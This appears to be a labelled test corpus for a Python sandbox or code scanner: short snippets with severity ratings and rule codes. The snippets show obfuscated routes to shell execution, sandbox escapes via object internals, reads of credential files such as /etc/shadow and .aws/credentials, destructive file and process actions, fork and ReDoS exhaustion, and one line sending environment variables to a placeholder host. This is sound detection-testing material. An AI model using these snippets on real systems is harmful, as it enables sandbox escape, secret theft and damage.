#### implicit 01: HIGH
import os
a = [os.system, print]
a.pop(0)("id")
#### implicit 02: HIGH
import os
d = dict(zip(["x"], [os.system]))
d.get("x")("id")
#### implicit 03: HIGH
import os
class A:
    def __init__(self, f): self.f = f
    def __call__(self, x): return self.f(x)
A(os.system)("id")
#### implicit 04: HIGH
import os
def deco(f):
    def inner(*a): return f(*a)
    return inner
deco(os.system)("id")
#### implicit 05: HIGH
import os
async def m(): return os.system("id")
import asyncio; asyncio.get_event_loop().run_until_complete(m())
#### implicit 06: HIGH
import os
x = (lambda: os)().system
x("id")
#### implicit 07: HIGH
import os
f, *rest = [os.popen]
f("id")
#### implicit 08: HIGH
import os
globals()["g"] = os.system
g("id")
#### implicit 09: HIGH
import os
setattr(type("T", (), {}), "x", 1)
T = type("T", (), {"run": staticmethod(os.system)})
T.run("id")
#### implicit 10: HIGH
import os
with open("/datasets/x") as f: cmd = f.read()
[*map(lambda c: os.popen(c), [cmd])]
#### implicit 11: HIGH
from collections import defaultdict
import subprocess
d = defaultdict(lambda: subprocess.run)
d["z"](["id"])
#### implicit 12: HIGH
import os
(yield_ := os).system("id")
#### implicit 13: HIGH
import os
def gen():
    yield os.system
next(gen())("id")
#### implicit 14: HIGH
import os
match {"cmd": os.system}:
    case {"cmd": f}: f("id")
#### implicit 15: HIGH
import enum, os
class E(enum.Enum):
    A = 1
    def run(self): return os.system("id")
E.A.run()
#### implicit 16: HIGH
import os
class B:
    def __getattr__(self, n): return getattr(os, n)
B().system("id")
#### implicit 17: HIGH
import os, itertools
next(itertools.starmap(os.system, [("id",)]))
#### implicit 18: HIGH
import os
max(["id"], key=os.system)
#### implicit 19: HIGH
import os
try: raise Exception(os.system)
except Exception as e: e.args[0]("id")
#### implicit 20: HIGH
import os
class D:
    def __get__(self, i, o): return os.system
class C: x = D()
C().x("id")
#### implicit 21: HIGH
import os
class S:
    def __set_name__(self, o, n): os.system(n)
class T: id = S()
#### implicit 22: HIGH
import os
class I:
    def __init_subclass__(cls, **k): os.system("id")
class J(I): pass
#### implicit 23: HIGH
import os
class K:
    def __iter__(self):
        os.system("id")
        return iter([])
list(K())
#### implicit 24: HIGH
import os
class L:
    def __str__(self): return os.popen("id").read()
print(f"{L()}")
#### implicit 25: HIGH
import os
class M:
    def __missing__(self, k): pass
class N(dict):
    def __missing__(self, k): return os.system(k)
N()["id"]
#### implicit 26: HIGH
import os
class O:
    def __contains__(self, k): return os.system(k)
"id" in O()
#### implicit 27: HIGH
import os
class P:
    def __bool__(self): return os.system("id") == 0
if P(): pass
#### implicit 28: HIGH
import os
import threading
threading.Timer(1, os.system, ["id"]).start()
#### implicit 29: HIGH
import os, concurrent.futures as c
c.ThreadPoolExecutor().submit(os.system, "id")
#### implicit 30: HIGH
import os, multiprocessing
multiprocessing.Process(target=os.system, args=("id",)).start()
#### names in strings 01: HIGH
import os
getattr(os, "%s%s" % ("sys", "tem"))("id")
#### names in strings 02: HIGH
import os
getattr(os, "{}{}".format("sy", "stem"))("id")
#### names in strings 03: HIGH
import os
getattr(os, "smetsys"[1:][::-1])("id")
#### names in strings 04: HIGH
import os
n = ""
for c in "system": n += c
getattr(os, n)("id")
#### names in strings 05: HIGH
import os
getattr(os, "SYSTEM".lower())("id")
#### names in strings 06: HIGH
import os, base64
getattr(os, base64.b64decode("c3lzdGVt").decode())("id")
#### names in strings 07: HIGH
import os
getattr(os, "sXstem".replace("X", "y"))("id")
#### names in strings 08: HIGH
import os
k = [x for x in dir(os) if x.startswith("sys") and len(x) == 6][0]
getattr(os, k)("id")
#### names in strings 09: HIGH
import os
getattr(os, bytes([115,121,115,116,101,109]).decode())("id")
#### names in strings 10: HIGH
import os
getattr(os, "".join(map(chr, [115,121,115,116,101,109])))("id")
#### names in strings 11: HIGH
import os
getattr(os, "ttztfn".translate({}) and "".join(chr(ord(c) - 1) for c in "tztufn"))("id")
#### names in strings 12: HIGH
import os, codecs
getattr(os, codecs.decode("flfgrz", "rot_13"))("id")
#### names in strings 13: HIGH
import os
getattr(os, str(b"system", "ascii"))("id")
#### names in strings 14: HIGH
import os
getattr(os, "sys tem".replace(" ", ""))("id")
#### names in strings 15: HIGH
import os
getattr(os, "a_system".split("_")[1])("id")
#### names in strings 16: HIGH
import os
getattr(os, "\x73ystem")("id")
#### names in strings 18: HIGH
import os
next(v for k, v in vars(os).items() if k == "system")("id")
#### names in strings 19: HIGH
import os, string
getattr(os, string.Template("${a}tem").substitute(a="sys"))("id")
#### names in strings 20: HIGH
import os
getattr(os, "metsys".__getitem__(slice(None, None, -1)))("id")
#### imports 01: HIGH
__import__("importlib").import_module("os").system("id")
#### imports 02: HIGH
import importlib
importlib.__import__("os").system("id")
#### imports 03: HIGH
import builtins
builtins.__dict__["__import__"]("os").system("id")
#### imports 04: HIGH
from importlib import machinery
machinery.SourceFileLoader("x", "/tmp/x.py").load_module()
#### imports 05: HIGH
import sys
sys.modules.get("os").system("id")
#### imports 06: HIGH
import imp
imp.load_source("x", "/tmp/x.py")
#### imports 07: HIGH
exec("import os; os.system('id')", {})
#### imports 08: HIGH
import sys
del sys.modules["os"]
import os; os.system("id")
#### imports 09: HIGH
import sys
sys.meta_path.insert(0, object())
#### imports 10: HIGH
import importlib.util
spec = importlib.util.spec_from_file_location("p", "/tmp/p.py")
m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m)
#### imports 11: HIGH
import pkgutil
for m in pkgutil.iter_modules():
    if m.name == "subprocess": m.module_finder.find_spec(m.name).loader.load_module(m.name).run(["id"])
#### imports 12: HIGH
import site
site.addsitedir("/tmp")
#### imports 13: HIGH
__spec__.loader.load_module("os")
#### objects 01: HIGH
object.__subclasses__()[140].__init__.__globals__["sys"].modules["os"].system("id")
#### objects 02: HIGH
type.__subclasses__(type)
#### objects 03: HIGH
def f(): pass
f.__globals__["__builtins__"].eval("1")
#### objects 04: HIGH
class A: pass
A.__init__.__globals__
#### objects 05: HIGH
getattr(getattr((), "__class__"), "__base__").__subclasses__()
#### objects 06: HIGH
{}.__class__.__mro__[-1].__subclasses__()
#### objects 07: HIGH
import functools
functools.reduce(getattr, ["__class__", "__base__", "__subclasses__"], ())()
#### objects 08: HIGH
import operator
operator.attrgetter("__class__.__base__.__subclasses__")(())()
#### objects 09: HIGH
f = lambda: 0
f.__code__ = (lambda: 1).__code__
#### objects 10: HIGH
print("{0.__class__.__base__.__subclasses__}".format(1))
#### objects 11: HIGH
help.__call__.__globals__ if hasattr(help, "x") else None
#### objects 12: HIGH
import warnings
warnings.catch_warnings()._module.__builtins__["eval"]("1")
#### objects 13: HIGH
[].append.__self__.__class__.__base__.__subclasses__()
#### objects 14: HIGH
def g(): yield
g().gi_code
#### objects 15: HIGH
import types
types.CodeType(0,0,0,0,0,0,b"",(),(),(),"","",0,b"")
#### objects 16: HIGH
vars(object)["__subclasses__"] if 0 else type.__dict__["__subclasses__"](object)
#### frames 01: HIGH
import sys
try: 1/0
except: sys.exc_info()[2].tb_frame.f_back.f_globals
#### frames 02: HIGH
import inspect
inspect.stack()[1].frame.f_globals
#### frames 03: HIGH
import sys
sys._current_frames()
#### frames 04: HIGH
import traceback, sys
next(traceback.walk_stack(None))[0].f_globals
#### frames 05: HIGH
import gc
[o for o in gc.get_objects() if "os" in str(o)]
#### frames 06: HIGH
import threading
threading.settrace(lambda *a: None)
#### frames 07: HIGH
async def c(): pass
c().cr_frame.f_globals
#### code 01: HIGH
import code; code.interact(local={})
#### code 02: HIGH
import codeop; codeop.compile_command("1")
#### code 03: HIGH
import trace; trace.Trace().run("print(1)")
#### code 04: HIGH
import timeit; timeit.Timer(setup="import os; os.system('id')").timeit(1)
#### code 06: HIGH
import logging.config
logging.config.dictConfig({"version": 1, "formatters": {"x": {"()": "os.system", "command": "id"}}})
#### code 07: HIGH
import ast
eval(compile(ast.parse("1", mode="eval"), "", "eval"))
#### code 08: HIGH
import zlib, base64
exec(zlib.decompress(base64.b85decode("x")))
#### code 09: HIGH
src = "".join(chr(ord(c) ^ 1) for c in "qshou")
exec(src)
#### code 10: HIGH
import types
m = types.ModuleType("m")
exec("x=1", m.__dict__)
#### code 11: HIGH
import marshal
exec(marshal.loads(open("x","rb").read()))
#### libraries 01: HIGH
import pandas as pd
pd.read_html("http://x/")
#### libraries 02: HIGH
import pandas as pd
pd.read_parquet("s3://x/y")
#### libraries 03: HIGH
import pandas as pd
pd.DataFrame().to_pickle("http://x")
#### libraries 04: HIGH
import pandas as pd
pd.read_csv("file:///etc/passwd")
#### libraries 05: HIGH
import pandas as pd
pd.io.pickle.pickle.loads(b"")
#### libraries 06: HIGH
import numpy as np
np.loadtxt("/etc/hosts")
#### libraries 07: HIGH
import numpy as np
np.lib.npyio.os.system("id")
#### libraries 08: HIGH
import numpy as np
np.genfromtxt("https://x/y.csv")
#### libraries 09: HIGH
import numpy as np
np.load("x.npy", None, True)
#### libraries 10: HIGH
import numpy as np
np.save("/root/x.npy", np.zeros(1))
#### libraries 11: HIGH
import pandas as pd
pd.eval("__import__('os').system('id')", engine="python")
#### libraries 12: HIGH
import pandas as pd
df = pd.DataFrame(); df.apply(lambda r: __import__("os").system("id"), axis=1)
#### libraries 13: HIGH
import sklearn.utils; sklearn.utils.os.system("id") if hasattr(sklearn.utils, "os") else None
#### libraries 14: HIGH
import scipy.io; scipy.io.loadmat("http://x/y.mat")
#### libraries 15: HIGH
import tensorflow as tf
tf.keras.models.load_model("x.h5", custom_objects={}, safe_mode=False)
#### libraries 16: HIGH
import torch
torch.load("x", weights_only=False)
#### libraries 17: HIGH
import torch; torch.ops.load_library("x.so")
#### libraries 18: HIGH
from joblib import Memory, load; load(open("x","rb"))
#### libraries 19: HIGH
import yaml; yaml.load(open("x"), Loader=yaml.UnsafeLoader)
#### libraries 21: HIGH
import jsonpickle; jsonpickle.decode("{}")
#### libraries 22: HIGH
import pandas as pd; pd.read_sql("select 1", "postgresql://h/d")
#### libraries 23: HIGH
import matplotlib.pyplot as plt; plt.style.use("http://x/y.mplstyle")
#### libraries 24: HIGH
import xml.etree.ElementTree as E; E.parse("/etc/passwd")
#### libraries 25: HIGH
import numpy as np; np.frompyfunc(__import__("os").system, 1, 1)(["id"])
#### libraries 26: HIGH
import numpy as np; np.vectorize(eval)(["1"])
#### reach 01: HIGH
import ctypes.util, ctypes; ctypes.CDLL(ctypes.util.find_library("c")).system(b"id")
#### reach 02: HIGH
from ctypes import *; cdll.LoadLibrary("libc.so.6")
#### reach 03: HIGH
import ctypes; ctypes.pythonapi.PyRun_SimpleString(b"1")
#### reach 04: HIGH
import os; os.execlp("sh", "sh")
#### reach 05: HIGH
import subprocess; subprocess.Popen("id", shell=True)
#### reach 06: HIGH
import asyncio; asyncio.run(asyncio.create_subprocess_exec("id"))
#### reach 07: HIGH
import os; os.spawnv(0, "/bin/sh", ["sh"])
#### reach 08: HIGH
import distutils.spawn as d; d.spawn(["id"])
#### reach 09: HIGH
import socketserver; socketserver.TCPServer(("", 1), socketserver.BaseRequestHandler)
#### reach 10: HIGH
import telnetlib; telnetlib.Telnet("x")
#### reach 11: HIGH
import smtplib; smtplib.SMTP("x").sendmail("a", "b", "c")
#### reach 12: HIGH
import ssl, socket; ssl.create_default_context().wrap_socket(socket.socket()).connect(("x", 1))
#### reach 13: HIGH
import asyncio; asyncio.run(asyncio.open_connection("x", 1))
#### reach 14: HIGH
import urllib.request; urllib.request.urlretrieve("http://x", "y")
#### reach 15: CRITICAL
import os, json, urllib.request
urllib.request.urlopen(urllib.request.Request("http://x", data=json.dumps(dict(os.environ)).encode()))
#### reach 16: HIGH
import http.client; http.client.HTTPConnection("x").request("GET", "/")
#### reach 17: HIGH
open("/etc/passwd").read()
#### reach 18: HIGH
import pathlib; pathlib.Path.home().joinpath(".aws/credentials").read_text()
#### reach 19: HIGH
import shutil; shutil.copyfile("/etc/shadow", "/tmp/x")
#### reach 20: HIGH
import os; os.listdir("/proc/1")
#### reach 21: HIGH
import glob; glob.glob("/home/*/.ssh/*")
#### reach 22: HIGH
import io; io.open("/proc/self/maps")
#### reach 23: HIGH
import codecs; codecs.open("/etc/shadow")
#### reach 24: HIGH
import gzip; gzip.open("/etc/x.gz")
#### reach 25: HIGH
import zipfile; zipfile.ZipFile("/etc/x.zip")
#### reach 26: HIGH
import tokenize; tokenize.open("/etc/passwd")
#### reach 27: HIGH
import sqlite3; sqlite3.connect("/root/.mozilla/firefox/x/cookies.sqlite")
#### reach 28: HIGH
import configparser; configparser.ConfigParser().read("/root/.aws/credentials")
#### reach 29: HIGH
import os; os.symlink("/etc/passwd", "x")
#### reach 30: HIGH
import csv; list(csv.reader(open("/etc/passwd")))
#### damage 01: HIGH
open("/root/.bashrc", "a").write("x")
#### damage 02: HIGH
import os; os.chmod("/etc/passwd", 0o777)
#### damage 03: HIGH
import os; os.kill(1, 9)
#### damage 04: HIGH
import os; os.setuid(0)
#### damage 05: HIGH
import os; os.remove("/etc/passwd")
#### damage 06: HIGH
import builtins; builtins.print = __import__("os").system
print("id")
#### damage 07: HIGH
import sys; sys.stdout = type("S", (), {"write": lambda s, t: __import__("os").system("id")})()
print(1)
#### damage 08: HIGH
import sys; sys.setprofile(lambda *a: None)
#### damage 09: HIGH
def __getattr__(name): return eval(name)
#### damage 10: HIGH
import os
class R:
    def __reduce_ex__(self, p): return (os.system, ("id",))
#### damage 11: HIGH
import copyreg, os
copyreg.pickle(int, lambda x: (os.system, ("id",)))
#### letters 01: HIGH
ｅｘｅｃ("1")
#### letters 02: HIGH
𝔢𝔳𝔞𝔩("1")
#### letters 03: HIGH
__𝒾mport__("os").system("id")
#### letters 05: HIGH
import ｏs
ｏs.system("id")
#### resources 01: MEDIUM
while True:
    x = 1
#### resources 02: MEDIUM
x = "a" * 10**11
#### resources 04: MEDIUM
def f(): return f()
f()
#### resources 05: MEDIUM
import re; re.match("(a|aa)+$", "a"*50)
#### resources 06: MEDIUM
import re; re.compile("([a-zA-Z]+)*$").match("a"*30)
#### resources 07: MEDIUM
import itertools
for i in itertools.count(): pass
#### resources 08: MEDIUM
import threading
while True: threading.Thread(target=print).start()
#### resources 09: MEDIUM
x = 2 ** (10**10)
#### resources 10: MEDIUM
import numpy as np; np.zeros(10**13)
#### resources 11: MEDIUM
a = []
while 1: a.append("x" * 1000000)
#### resources 13: MEDIUM
import math; math.factorial(10**9)
#### resources 14: MEDIUM
bytearray(10**12)
#### snapshots 01: LOW
import datetime; datetime.date.today()
#### snapshots 02: LOW
import numpy as np; np.random.normal()
#### snapshots 03: LOW
import secrets; secrets.token_hex()
#### snapshots 04: LOW
print(hash("x"), id(object()))
#### snapshots 05: LOW
import os; os.getpid()
#### snapshots 06: LOW
import time; time.perf_counter()
#### snapshots 07: LOW
for x in set("abc"): print(x)
#### snapshots 08: LOW
import uuid; uuid.uuid1()
#### snapshots 09: LOW
from datetime import datetime as d; d.utcnow()
#### snapshots 10: LOW
import os; os.listdir(".")
#### more implicit 01: HIGH
import os as _o
class Registry:
    handlers = {}
    @classmethod
    def register(cls, name):
        def wrap(f):
            cls.handlers[name] = f
            return f
        return wrap
@Registry.register("run")
def go(x): return _o.system(x)
Registry.handlers["run"]("id")
#### more implicit 02: HIGH
import subprocess
from types import SimpleNamespace
ns = SimpleNamespace(run=subprocess.run)
ns.run(["id"])
#### more implicit 03: HIGH
import os
from collections import namedtuple
T = namedtuple("T", "f")
T(os.system).f("id")
#### more implicit 04: HIGH
import os
import queue
q = queue.Queue(); q.put(os.system)
q.get()("id")
#### more implicit 05: HIGH
import os
from collections import deque
deque([os.system]).popleft()("id")
#### more implicit 06: HIGH
import os
x = os.system if len("a") else print
x("id")
#### more implicit 07: HIGH
import os
def outer():
    f = os.system
    def inner(c):
        nonlocal f
        return f(c)
    return inner
outer()("id")
#### more implicit 08: HIGH
import os
[lambda c: os.popen(c)][0]("id")
#### more implicit 09: HIGH
import os
for name, f in {"a": os.system}.items(): f("id")
#### more implicit 10: HIGH
import contextlib, os
with contextlib.ExitStack() as s: s.callback(os.system, "id")
#### more implicit 11: HIGH
import os
list(filter(os.system, ["id"]))
#### more implicit 12: HIGH
import os
from dataclasses import dataclass, field
@dataclass
class A:
    x: int = field(default_factory=lambda: os.system("id"))
A()
#### more implicit 13: HIGH
import os
"x".join(map(str, (os.popen(c).read() for c in ["id"])))
#### more implicit 14: HIGH
import os
class A:
    def __format__(self, spec): return os.popen(spec).read()
f"{A():id}"
#### more implicit 15: HIGH
import os
class A:
    def __eq__(self, o): return os.system("id")
A() == 1
#### more implicit 16: HIGH
import os
class A:
    def __hash__(self): return os.system("id")
{A(): 1}
#### more implicit 17: HIGH
import functools, os
@functools.singledispatch
def f(x): pass
f.register(str, os.system)
f("id")
#### more implicit 18: HIGH
import os
os.__dict__.get("system")("id")
#### more implicit 20: HIGH
import os, types
types.MethodType(os.system, "id")()
#### more implicit 21: HIGH
import os, operator
operator.call(os.system, "id")
#### more implicit 22: HIGH
import os
f = os.system.__call__
f("id")
#### more implicit 23: HIGH
import sys
sys.modules[__name__].__builtins__["eval"]("1")
#### more implicit 24: HIGH
from os import *
popen("id")
#### more implicit 25: HIGH
import os.path as p
p.os.system("id")
#### more implicit 26: HIGH
import random as r
r._os.system("id")
#### more implicit 27: HIGH
import json.decoder, json
json.codecs.open("/etc/passwd")
#### more implicit 28: HIGH
import numpy
numpy.f2py.os.system("id")
#### more names in strings 01: HIGH
import base64
c = compile(base64.b64decode("cHJpbnQoMSk="), "x", "exec")
exec(c)
#### more names in strings 02: HIGH
import os
s = bytearray(b"system").decode()
getattr(os, s)("id")
#### more names in strings 03: HIGH
import os
s = "".join(reversed("metsys"))
getattr(os, s)("id")
#### more names in strings 04: HIGH
import os
s = "".join(sorted("system", key=lambda c: 0))
getattr(os, s)("id")
#### more names in strings 05: HIGH
import os, json
getattr(os, json.loads('"system"'))("id")
#### more names in strings 06: HIGH
import os
s = "{0}{1}".format(*("sys", "tem"))
getattr(os, s)("id")
#### more names in strings 07: HIGH
import os
S = "abcdefghijklmnopqrstuvwxyz"
n = S[18] + S[24] + S[18] + S[19] + S[4] + S[12]
getattr(os, n)("id")
#### more names in strings 08: HIGH
import os, urllib.parse
getattr(os, urllib.parse.unquote("%73ystem"))("id")
#### more names in strings 09: HIGH
import os, binascii
getattr(os, binascii.unhexlify("73797374656d").decode())("id")
#### more names in strings 10: HIGH
import os, html
getattr(os, html.unescape("&#115;ystem"))("id")
#### more names in strings 11: HIGH
import os
exec("o" + "s.system('id')")
#### more names in strings 12: HIGH
import builtins
getattr(builtins, "__imp" "ort__")("os").system("id")
#### more names in strings 13: HIGH
import os
getattr(os, "system\x00"[:-1])("id")
#### more names in strings 14: HIGH
import os
getattr(os, "sys\u0074em")("id")
#### more names in strings 15: HIGH
import os, struct
getattr(os, struct.pack("6B", 115,121,115,116,101,109).decode())("id")
#### more imports 01: HIGH
from importlib import util
s = util.find_spec("subprocess"); s.loader.load_module().run(["id"])
#### more imports 02: HIGH
import importlib
m = importlib.import_module(name="os")
m.popen("id")
#### more imports 03: HIGH
def load(n): return __import__(n)
load("os").system("id")
#### more imports 04: HIGH
for n in ["os", "sys"]:
    m = __import__(n)
    getattr(m, "system", print)("id")
#### more imports 07: HIGH
import pydoc; pydoc.safeimport("os").system("id")
#### more imports 08: HIGH
import runpy; runpy._run_code(compile("1","","exec"), {})
#### more imports 09: HIGH
globals()["__builtins__"].__import__("os").system("id")
#### more objects 01: HIGH
class X: pass
X().__init__.__globals__ if 0 else X.__subclasshook__.__self__.__base__.__subclasses__()
#### more objects 02: HIGH
(1).__class__.mro()[1].__subclasses__()
#### more objects 03: HIGH
type(type(1)).__subclasses__(object)
#### more objects 04: HIGH
str.__class__.__subclasses__(str.__class__.__base__)
#### more objects 05: HIGH
f"{().__class__.__bases__[0].__subclasses__()}"
#### more objects 06: HIGH
import string
string.Formatter().format("{0.__class__.__mro__}", 1)
#### more objects 07: HIGH
"{a.__globals__}".format_map({"a": (lambda: 0)})
#### more objects 08: HIGH
import inspect
inspect.getattr_static(object, "__subclasses__")(object)
#### more objects 09: HIGH
try: None.x
except AttributeError as e: e.__traceback__.tb_frame.f_builtins
#### more objects 10: HIGH
import sys
sys._getframe().f_back.f_globals
#### more objects 11: HIGH
def g():
    yield g
x = g(); x.gi_frame.f_globals
#### more objects 12: HIGH
def f(): pass
f.__closure__ or f.__code__.replace(co_name="x")
#### more objects 13: HIGH
license.__class__.__init__.__globals__
#### more objects 14: HIGH
match print:
    case object(__self__=b): b.eval("1")
#### more libraries 01: HIGH
import pandas as pd
pd.read_csv(filepath_or_buffer="https://x/y.csv")
#### more libraries 02: HIGH
import pandas as pd
url = "{}://{}".format("https", "x.org/y.csv")
pd.read_excel(url)
#### more libraries 03: HIGH
import pandas as pd
pd.DataFrame([1]).to_json("ftp://x/y")
#### more libraries 04: HIGH
import pandas as pd
pd.HDFStore("/etc/x.h5")
#### more libraries 05: HIGH
import pandas as pd
df = pd.DataFrame({"a":[1]})
df.query("@__import__('os').system('id')")
#### more libraries 06: HIGH
import pandas as pd
df = pd.DataFrame({"a":[1]})
df.eval("@pd.io.common.os.system('id')")
#### more libraries 07: HIGH
import pandas as pd
def f(df):
    return df.query("@pd.io.common.os.system('id')")
#### more libraries 08: HIGH
import pandas
pandas.io.common.urlopen("http://x")
#### more libraries 09: HIGH
from pandas.io.common import os
os.system("id")
#### more libraries 10: HIGH
import polars as pl; pl.read_csv("https://x/y.csv")
#### more libraries 11: HIGH
import pyarrow.parquet as pq; pq.read_table("s3://x/y")
#### more libraries 12: HIGH
import numpy as np; np.lib.format.open_memmap("/etc/passwd")
#### more libraries 13: HIGH
import numpy as np; np.DataSource().open("http://x/y")
#### more libraries 14: HIGH
import numpy as np; np.testing._private.utils.runstring("import os", {})
#### more libraries 15: HIGH
import scipy.datasets; scipy.datasets.face()
#### more libraries 16: HIGH
from sklearn.datasets import fetch_openml; fetch_openml("x")
#### more libraries 17: HIGH
import keras; keras.models.load_model("m.keras", safe_mode=False)
#### more libraries 18: HIGH
import tensorflow as tf; tf.io.read_file("/etc/passwd")
#### more libraries 19: HIGH
import tensorflow as tf; tf.io.gfile.GFile("/etc/passwd").read()
#### more libraries 20: HIGH
import tensorflow as tf; tf.load_op_library("x.so")
#### more libraries 21: HIGH
import torch; torch.utils.model_zoo.load_url("http://x")
#### more libraries 22: HIGH
import torch; torch.hub.download_url_to_file("http://x", "y")
#### more libraries 23: HIGH
import joblib; joblib.Memory("/tmp/c")
#### more libraries 24: HIGH
import h5py; h5py.File("/etc/x")
#### more libraries 25: HIGH
import statsmodels.api as sm; sm.load("x.pkl")
#### more libraries 26: HIGH
import sympy; sympy.sympify("__import__('os').system('id')")
#### more libraries 27: HIGH
import numexpr as ne; ne.evaluate("__import__('os')")
#### more libraries 28: HIGH
from jinja2 import Template; Template("{{ ''.__class__.__mro__ }}").render()
#### more libraries 29: HIGH
import fsspec; fsspec.open("https://x/y").open()
#### more libraries 30: HIGH
import sqlite3; c = sqlite3.connect("x.db"); c.execute("select load_extension('x')")
#### more resources 01: MEDIUM
import re; re.match(r"(\d+)*x", "1"*40)
#### more resources 02: MEDIUM
import re; re.fullmatch(r"(.*)*y", "x"*40)
#### more resources 03: MEDIUM
while not False: pass
#### more resources 04: HIGH
import os
for i in range(10**6): os.fork()
#### more resources 06: MEDIUM
x = "a" * (1 << 40)
#### more resources 07: MEDIUM
pow(9, 9**9)
#### more resources 09: MEDIUM
import sys; sys.setrecursionlimit(0x7fffffff)
#### more resources 10: MEDIUM
s = "x"
while True: s += s
#### out of the input's folder and down into the machine's: HIGH
import os, sys
base = os.path.dirname(sys.argv[1])
print(open(os.path.join(base, "..", "..", "..", "etc", "passwd")).read())  #! SBX1807
#### the same by pathlib: HIGH
import sys
from pathlib import Path
print((Path(sys.argv[1]).parent / "../../.." / "root/.profile").read_text())  #! SBX1807
#### two folders up beside the input: LOW
import os, sys
base = os.path.dirname(sys.argv[1])
print(open(os.path.join(base, "..", "..", "bars", "btc.csv")).read())
#### a function's hint as the way to it: HIGH
import os
def price(symbol: os.system) -> float:
    return 1.0
price.__annotations__["symbol"]("id")  #! SBX1101
#### hints of plain types, read: LOW
def price(symbol: str, depth: int = 1) -> float:
    return 1.0
print({name: hint.__name__ for name, hint in price.__annotations__.items()})
#### a default as the way to it: HIGH
import os
def price(symbol, *, run=os.popen):
    return symbol
price.__kwdefaults__["run"]("id")  #! SBX1101
#### what the machine starts holds secrets too: HIGH
print(open("/root/.bashrc").read())  #! SBX1807
print(open("/etc/crontab").read())  #! SBX1807
#### hidden from type checkers only: HIGH
from typing import TYPE_CHECKING
if not TYPE_CHECKING:
    import os
    import logging
    class Sink(logging.Filter):
        def filter(self, record):
            os.system(record.msg)  #! SBX1101
    logging.getLogger().addFilter(Sink())
#### a command line of the program's own making: HIGH
import argparse
parser = argparse.ArgumentParser()
parser.add_argument("--plot")
args = parser.parse_args(["--plot", "x=__import__('os').system('id')"])
print(eval("dict(" + args.plot + ")"))  #! SBX1001
#### the same in one word: HIGH
import argparse, os
parser = argparse.ArgumentParser()
parser.add_argument("--run")
os.system(parser.parse_args(args=["--run=id"]).run)  #! SBX1101
#### the command line it was started with, handed over: LOW
import argparse, json, sys
def main(argv):
    parser = argparse.ArgumentParser()
    parser.add_argument("input")
    parser.add_argument("output")
    args = parser.parse_args(argv[1:])
    with open(args.input) as source, open(args.output, "w") as target:
        json.dump(json.load(source), target)
if __name__ == "__main__":
    main(sys.argv)
